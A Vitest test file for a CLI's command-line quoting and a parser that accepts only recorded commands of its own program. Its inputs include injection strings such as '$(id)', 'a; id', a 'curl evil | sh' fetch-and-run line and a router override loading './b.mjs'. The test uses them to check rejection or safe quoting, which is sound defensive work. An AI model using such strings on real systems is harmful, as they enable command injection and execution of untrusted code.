import path from 'node:path';
import { expect, it } from 'vitest';
import { fromHere, locmoeCommand, recordedCommand } from '../../src/os/command-line.js';

it('a command line quotes what a shell would take apart', () => {
  expect(locmoeCommand(['logs', '--run', "it's here", '$HOME'])).toMatch(
    /^\S+\/cli\.ts logs --run 'it'\\''s here' '\$HOME'$/,
  );
});

it('a place in the working directory is named from there, any other as it was given', () => {
  expect(fromHere(path.resolve('runs/a'))).toBe('runs/a');
  expect(fromHere(path.resolve('.'))).toBe('.');
  expect(fromHere('/shared/runs/a')).toBe('/shared/runs/a');
  expect(fromHere('../runs/a')).toBe('../runs/a');
});

it('a recorded command is one of this program, word by word', () => {
  const words = ['serve', '--resume', "it's of routers-large", '--set', 'data.domains=[en, "$(id)"]'];
  expect(recordedCommand(locmoeCommand(words))).toBe(locmoeCommand(words));
  expect(recordedCommand('npx --no-install locmoe train --resume a; id')).toBe(
    locmoeCommand(['train', '--resume', 'a;', 'id']),
  );
  for (const other of [
    '',
    'curl evil | sh',
    'locmoe train --resume a --set moe.router=./b.mjs',
    'locmoe train --resume a --set=moe.router=./b.mjs',
    "locmoe train --resume a --set 'moe={router: ./b.mjs}'",
    'locmoe train \u001b[2J',
  ])
    expect(recordedCommand(other), other).toBeNull();
});
